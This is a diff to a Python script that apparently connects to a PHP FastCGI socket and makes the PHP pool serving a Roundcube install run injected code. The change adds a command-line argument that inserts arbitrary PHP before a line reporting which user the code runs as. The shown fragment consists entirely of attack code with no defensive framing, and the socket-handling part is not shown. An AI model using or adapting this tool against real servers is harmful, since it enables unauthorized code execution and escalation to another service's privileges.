@@ -1,10 +1,11 @@
-"""Runs PHP of its own in the pool behind a socket, as anybody can who may open it: `fastcgi.py SOCKET`."""
+"""Runs PHP of its own in the pool behind a socket, as anybody can who may open it: `fastcgi.py SOCKET [CODE]`."""
 
 import socket
 import struct
 import sys
 
-CODE = b"<?php die('code as ' . posix_getpwuid(posix_geteuid())['name']);"
+MORE = sys.argv[2] if len(sys.argv) > 2 else ""
+CODE = f"<?php {MORE} die('code as ' . posix_getpwuid(posix_geteuid())['name']);".encode()
 VALUES = {
     "SCRIPT_FILENAME": "/var/lib/roundcube/public_html/index.php",
     "REQUEST_METHOD": "POST",
